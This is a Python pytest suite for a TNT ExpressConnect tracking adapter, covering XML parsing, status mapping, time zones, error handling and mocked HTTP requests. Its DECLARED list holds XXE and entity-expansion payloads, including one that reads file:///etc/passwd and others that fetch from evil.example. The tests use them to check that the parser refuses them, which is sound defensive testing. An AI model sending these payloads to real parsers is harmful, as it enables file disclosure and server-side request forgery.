"""TNT ExpressConnect Tracking behind the port: consignments, unsafe XML, errors."""

import base64
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import parse_qs

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from adapters.carriers.tnt import BATCH, Settings, Tnt, connect, read, read_code, sentence
from bot.errors import Misconfigured, Refused, Temporary, WismoError
from bot.model.codes import codes
from bot.model.tracks import OffsetFrom, Status, Track, TrackRef, Window
from bot.model.xml import parse_xml
from bot.ports import Item, Request
from bot.tracking.phrases import refine
from bot.tracking.vocabulary import known

RECORDED = Path(__file__).parents[2] / "recorded/carriers/tnt"
TRACK, ERROR = ((RECORDED / f"{name}.xml").read_bytes() for name in ("track", "error"))
Reply = bytes | int | Callable[[], httpx.Response]


def consignment(number: str = "1", events: str = "", more: str = "") -> bytes:
    told = f"<Consignment><ConsignmentNumber>{number}</ConsignmentNumber>{more}{events}</Consignment>"
    return f"<TrackResponse>{told}</TrackResponse>".encode()


def event(code: str, text: str = "", day: str = "20261001", clock: str = "1200", depot: str = "AA1") -> str:
    return (
        f"<StatusData><StatusCode>{code}</StatusCode><StatusDescription>{text}</StatusDescription>"
        f"<LocalEventDate>{day}</LocalEventDate><LocalEventTime>{clock}</LocalEventTime><Depot>{depot}</Depot></StatusData>"
    )


def countries(origin: str, destination: str) -> str:
    return (
        f"<OriginCountry><CountryCode>{origin}</CountryCode></OriginCountry>"
        f"<DestinationCountry><CountryCode>{destination}</CountryCode></DestinationCountry>"
    )


class Wire:
    """A stand-in for the network that remembers what was asked."""

    def __init__(self, reply: Reply) -> None:
        self.reply = reply
        self.asked: list[str] = []

    def handle(self, request: httpx.Request) -> httpx.Response:
        assert request.method == "POST"
        assert str(request.url) == "https://tnt.example/ectrack/track"
        assert request.headers["authorization"] == "Basic " + base64.b64encode(b"shop:secret").decode()
        self.asked.append(parse_qs(request.content.decode())["xml_in"][0])
        if callable(self.reply):
            return self.reply()
        if isinstance(self.reply, int):
            return httpx.Response(self.reply)
        return httpx.Response(200, content=self.reply)

    def port(self, market: str = "", origin: str = "") -> Tnt:
        settings = Settings(
            username="shop",
            password=SecretStr("secret"),
            market=market,
            origin_country=origin,
            base_url="https://tnt.example/ectrack/track",
        )
        return connect(settings, httpx.AsyncClient(transport=httpx.MockTransport(self.handle)))


# ---- reading


def test_an_answer_holds_every_consignment_and_its_events_oldest_first() -> None:
    track, missing = read(TRACK)
    assert (track.number, track.origin, track.destination) == ("100000011", "DE", "GB")
    assert (track.status, track.proof_of_delivery) == (Status.DELIVERED, "https://tnt.example/pod/1")
    assert [(s.status.value, s.cause, s.known, s.place.text) for s in track.scans] == [
        ("in_transit", "origin_facility", False, "Erststadt"),
        ("in_transit", "hub_arrived", False, "Thirdburg"),
        ("out_for_delivery", "", True, "Secondville"),
        ("delivered", "", True, "Secondville"),
    ]
    assert (missing.number, missing.scans, missing.status, missing.cause) == (
        "100000022",
        (),
        Status.UNKNOWN,
        "not_found",
    )


def test_only_a_depot_whose_country_is_told_has_a_time_zone() -> None:
    first, transit, _, last = read(TRACK)[0].scans
    assert (first.at, first.offset_from) == (datetime(2026, 10, 1, 16, tzinfo=UTC), OffsetFrom.LOCATION)
    assert (transit.at, transit.offset_from) == (datetime(2026, 10, 2, 3, 10, tzinfo=UTC), OffsetFrom.UNKNOWN)
    assert (last.at, last.place.country) == (datetime(2026, 10, 3, 8, 5, tzinfo=UTC), "GB")
    assert (str(last.local), last.raw_time) == ("2026-10-03 09:05:00", "20261003 0905")


def test_within_one_country_every_depot_is_in_it() -> None:
    body = consignment(events=event("QQ", depot="ZZ7"), more=countries("IT", "IT"))
    assert read(body)[0].scans[0].at == datetime(2026, 10, 1, 10, tzinfo=UTC)


def test_the_due_date_is_a_day_at_the_destination() -> None:
    assert read(TRACK)[0].eta is None, "it has come"
    eta = read(TRACK.replace(b"DEL<", b"INT<"))[0].eta
    assert isinstance(eta, Window)
    assert (eta.first, eta.first.utcoffset(), eta.basis) == (eta.last, eta.last.utcoffset(), "tnt")
    assert eta.first.astimezone(UTC) == datetime(2026, 10, 2, 23, tzinfo=UTC)


@pytest.mark.parametrize(("day", "clock"), [("", ""), ("soon", "1200"), ("20261399", "1200"), ("20261001", "9999")])
def test_a_time_that_cannot_be_read_is_none(day: str, clock: str) -> None:
    scan = read(consignment(events=event("OD", day=day, clock=clock)))[0].scans[0]
    assert (scan.at, scan.raw_time) == (None, f"{day} {clock}".strip())


def test_the_signers_name_is_nowhere() -> None:
    assert "NOBODY" not in repr(read(TRACK))


def test_the_tables_use_only_our_words_and_the_schemas_four_summaries() -> None:
    for name in ("tnt_status", "tnt_summary", "tnt_text"):
        assert all(known(code.status, code.cause) for code in codes(name).values())
    assert set(codes("tnt_summary")) == {"CNF", "DEL", "EXC", "INT"}
    assert all(key == sentence(key) for key in codes("tnt_text"))


def test_a_sentence_under_an_unknown_code_is_never_a_delivery() -> None:
    ends = {Status.DELIVERED, Status.RETURNED, Status.PICKUP_READY}
    assert not any(code.status in ends for code in codes("tnt_text").values())
    code, has = read_code("ZZ", "Shipment Delivered In Good Condition.")
    assert (code.status, has) == (Status.UNKNOWN, False)


def test_what_tnt_is_mending_went_wrong_and_its_words_say_what() -> None:
    text = "Shipment Damaged In Depot. Recovery Actions Underway."
    (track,) = read(consignment(events=event("QQ", text)))
    assert (track.scans[0].status, track.scans[0].known) == (Status.EXCEPTION, False)
    assert refine(track.scans[0]).cause == "damaged"
    assert read_code("QQ", "Recovery Actions Underway Were Ended")[0].status is Status.UNKNOWN


@given(st.text(max_size=4), st.text(max_size=30))
def test_only_the_tables_speak(code: str, text: str) -> None:
    word, has = read_code(code, text)
    assert has == (code.upper() in codes("tnt_status"))
    assert has or sentence(text) in codes("tnt_text") or word.status is Status.UNKNOWN


def test_one_alternative_number_is_number_enough() -> None:
    body = consignment("", more="<AlternativeConsignmentNumber>GD1</AlternativeConsignmentNumber>")
    assert read(body)[0].number == "GD1"


@pytest.mark.parametrize(
    ("summary", "events", "statuses"),
    [
        ("DEL", ["Q1 1200", "Q2 0905", "Q3 0800"], ["unknown", "delivered", "unknown"]),
        ("DEL", ["Q1 1200", "Q2 0905", "Q3 0905"], ["unknown", "delivered", "unknown"]),
        ("DEL", ["Q1 1200", "OK 0905"], ["delivered", "unknown"]),
        ("DEL", ["Q1 1200", "Q2 0800"], ["unknown", "delivered"]),
        ("DEL", ["OD 1200", "Q2 0800"], ["unknown", "out_for_delivery"]),
        ("EXC", ["Q1 1200", "Q2 0905"], ["unknown", "exception"]),
        ("INT", ["OD 1200", "Q2 0905"], ["unknown", "out_for_delivery"]),
        ("CNF", ["Q1 1200"], ["unknown"]),
    ],
)
def test_the_summary_is_the_event_of_its_own_time_else_the_newest_where_no_table_has_it(
    summary: str, events: list[str], statuses: list[str]
) -> None:
    told = "".join(event(code, clock=clock) for code, clock in map(str.split, events))
    more = f"<DeliveryDate>20261001</DeliveryDate><DeliveryTime>0905</DeliveryTime><SummaryCode>{summary}</SummaryCode>"
    (track,) = read(consignment(events=told, more=more))
    assert [s.status.value for s in track.scans] == statuses
    assert not any(s.known for s in track.scans if s.raw_code.startswith("Q"))


def test_what_is_a_consignment_in_the_list_may_be_a_shipment_in_the_answer() -> None:
    for said in ("Consignment", "Shipment"):
        assert read_code("Q", f"{said} Received At Transit Point.")[0].cause == "hub_arrived"
        assert read_code("Q", f"{said} passed through transit point")[0].cause == "hub_departed"


def test_a_country_may_be_told_by_its_name_or_by_an_address_alone() -> None:
    address = '<Address addressParty="{}"><Country><CountryCode>{}</CountryCode></Country></Address>'
    named = "<OriginCountry><CountryName>Germany</CountryName></OriginCountry>"
    addresses = "".join(address.format(*a) for a in (("Receiver", "FR"), ("Delivery", "IT"), ("Sender", "GB")))
    (track,) = read(consignment(more=f"{named}<Addresses>{addresses}</Addresses>"))
    assert (track.origin, track.destination) == ("DE", "IT")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<html/>",
        b"<TrackResponse/>",
        b"<TrackResponse><Consignment/></TrackResponse>",
        b"<TrackResponse><Consignment>",
        b"<?xml version='1.0' encoding='nonsense'?><TrackResponse/>",
        b"<?xml version='1.0' encoding='utf-7'?><TrackResponse/>",
        b"\xff\xfe",
        b"<a>&nothing;</a>",
        b"<TrackResponse>" + b"<a>" * 200_000,
        b"<TrackResponse>" + b"<a/>" * 200_000 + b"</TrackResponse>",
        b"<TrackResponse>" + b" " * 5_000_000 + b"</TrackResponse>",
        ERROR,
    ],
)
def test_what_has_no_consignment_is_one_clear_error(body: bytes) -> None:
    with pytest.raises(ValueError, match="TNT"):
        read(body)


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"<TrackResponse><Error><Code>204</Code><Message>Access denied</Message></Error></TrackResponse>", "204: Acc"),
        (b"<TrackResponse><Error/></TrackResponse>", "error of no code$"),
        (b"<parse_error><error_reason>Element content is invalid</error_reason></parse_error>", "TNT: Element content"),
    ],
)
def test_what_tnt_says_went_wrong_is_told(body: bytes, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        read(body)


DECLARED = [
    '<!DOCTYPE TrackResponse SYSTEM "http://evil.example/x.dtd"><TrackResponse/>',
    "<!DOCTYPE TrackResponse><TrackResponse/>",
    '<!DOCTYPE a [<!ENTITY x "yyyy"><!ENTITY z "&x;&x;&x;">]><a>&z;</a>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>',
]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("text", DECLARED)
def test_xml_that_declares_anything_is_refused_in_any_encoding(text: str, encoding: str) -> None:
    with pytest.raises(ValueError, match="TNT"):
        parse_xml(text.encode(encoding), "TNT")


def test_the_declaration_is_what_is_refused() -> None:
    for text in DECLARED:
        with pytest.raises(ValueError, match="declarations"):
            parse_xml(text.encode("utf-16"), "TNT")


def test_an_answer_in_another_encoding_is_read() -> None:
    assert read(TRACK.replace(b'"UTF-8"', b'"UTF-16"').decode().encode("utf-16")) == read(TRACK)


@given(st.binary(max_size=60) | st.text(max_size=60).map(lambda t: f"<TrackResponse>{t}</TrackResponse>".encode()))
def test_any_bytes_are_a_value_error(body: bytes) -> None:
    with pytest.raises(ValueError, match="TNT"):
        read(body)


def outcome(body: bytes) -> list[Track] | str:
    try:
        return read(body)
    except ValueError as error:
        return str(error)


def assert_total(body: bytes) -> None:
    """Tracks with a number and our words, or one clear line."""
    found = outcome(body)
    if isinstance(found, str):
        assert found.startswith("TNT")
        assert "\n" not in found
    else:
        assert found
        assert all(t.number and known(t.status, t.cause) for t in found)


TAGS = [
    "TrackResponse",
    "Consignment",
    "ConsignmentNumber",
    "StatusData",
    "StatusCode",
    "LocalEventDate",
    "SummaryCode",
]
WORDS = st.sampled_from(["1", "OK", "20261001", "DEL", "", "\u2603", "9" * 40])
XML = st.recursive(
    WORDS,
    lambda inner: st.tuples(st.sampled_from(TAGS), st.lists(inner, max_size=4)).map(
        lambda t: f"<{t[0]}>{''.join(t[1])}</{t[0]}>"
    ),
    max_leaves=20,
)


@given(XML)
def test_elements_in_any_place_are_tracks_or_one_clear_error(inner: str) -> None:
    for body in (f"<TrackResponse>{inner}</TrackResponse>".encode(), consignment(events=inner)):
        assert_total(body)


@given(st.integers(0, len(TRACK) - 1), st.binary(max_size=3), st.integers(0, 40))
def test_an_answer_broken_anywhere_is_tracks_or_one_clear_error(at: int, by: bytes, without: int) -> None:
    assert_total(TRACK[:at] + by + TRACK[at + without :])


# ---- asking


async def test_numbers_are_asked_together_and_answered_in_order() -> None:
    wire = Wire(TRACK)
    refs = [TrackRef("100000022"), TrackRef("gd100000011ww"), TrackRef("<&"), TrackRef("100000011")]
    missing, alternative, unheard, own = await wire.port().track(refs)
    assert missing is not None
    assert missing.cause == "not_found"
    assert alternative is not None
    assert (alternative.number, alternative.status) == ("gd100000011ww", Status.DELIVERED)
    assert unheard is None
    assert own == read(TRACK)[0]
    (asked,) = wire.asked
    root = parse_xml(asked.encode(), "TNT")
    assert 'locale="en_US" version="3.1"' in asked
    assert [n.text() for n in root.first("SearchCriteria").all("ConsignmentNumber")] == [r.number for r in refs]
    assert [n.name for n in root.first("LevelOfDetail").inner] == ["Complete"]


async def test_market_and_origin_narrow_the_search() -> None:
    wire = Wire(TRACK)
    await wire.port("INTERNATIONAL", 'D"E').track([TrackRef("1")])
    assert '<SearchCriteria marketType="INTERNATIONAL" originCountry="D&quot;E">' in wire.asked[0]


async def test_a_number_that_tnt_used_twice_is_the_newer_one() -> None:
    old, new = (consignment(events=event("OD", day=day)) for day in ("20250101", "20260101"))
    both = new.replace(b"</TrackResponse>", b"") + old.replace(b"<TrackResponse>", b"")
    (track,) = await Wire(both).port().track([TrackRef("1")])
    assert track == read(new)[0]


async def test_an_answer_without_consignments_knows_nobody() -> None:
    assert list(await Wire(b"<TrackResponse/>").port().track([TrackRef("1")])) == [None]


async def test_the_caller_splits_what_is_too_much_for_one_call() -> None:
    port = Wire(TRACK).port()
    assert port.capabilities.batch == BATCH
    with pytest.raises(ValueError, match="10"):
        await port.track([TrackRef("1")] * (BATCH + 1))
    assert await port.track([]) == ()


@pytest.mark.parametrize(
    ("reply", "error"),
    [
        (401, Misconfigured),
        (403, Misconfigured),
        (404, Misconfigured),
        (429, Temporary),
        (503, Temporary),
        (400, Refused),
        (b"<html>", Temporary),
        (ERROR, Temporary),
    ],
)
async def test_an_error_says_what_to_do(reply: Reply, error: type[WismoError]) -> None:
    with pytest.raises(error) as caught:
        await Wire(reply).port().track([TrackRef("100000011")])
    assert "secret" not in str(caught.value)
    assert "100000011" not in str(caught.value)


async def test_a_wait_that_was_named_is_kept() -> None:
    with pytest.raises(Temporary) as caught:
        await Wire(lambda: httpx.Response(429, headers={"retry-after": "7"})).port().track([TrackRef("1")])
    assert (caught.value.retry_after, caught.value.account_wide) == (7.0, True)


async def test_a_broken_line_is_temporary() -> None:
    def down() -> httpx.Response:
        raise httpx.ConnectError("refused")

    with pytest.raises(Temporary):
        await Wire(down).port().track([TrackRef("1")])


async def test_the_check_is_a_real_call() -> None:
    wire = Wire(consignment("000000000", more="<SummaryCode>CNF</SummaryCode>"))
    assert await wire.port().check() == "TNT: the credentials work"
    assert "000000000" in wire.asked[0]
    with pytest.raises(Misconfigured):
        await Wire(401).port().check()


async def test_tnt_pushes_nothing() -> None:
    port = Wire(TRACK).port()
    assert (await port.webhook(Request("POST", "/hooks/tnt", {}, {}, b""))).status == 404
    with pytest.raises(ValueError, match="TNT"):
        port.decode(Item("k", "l", b""))
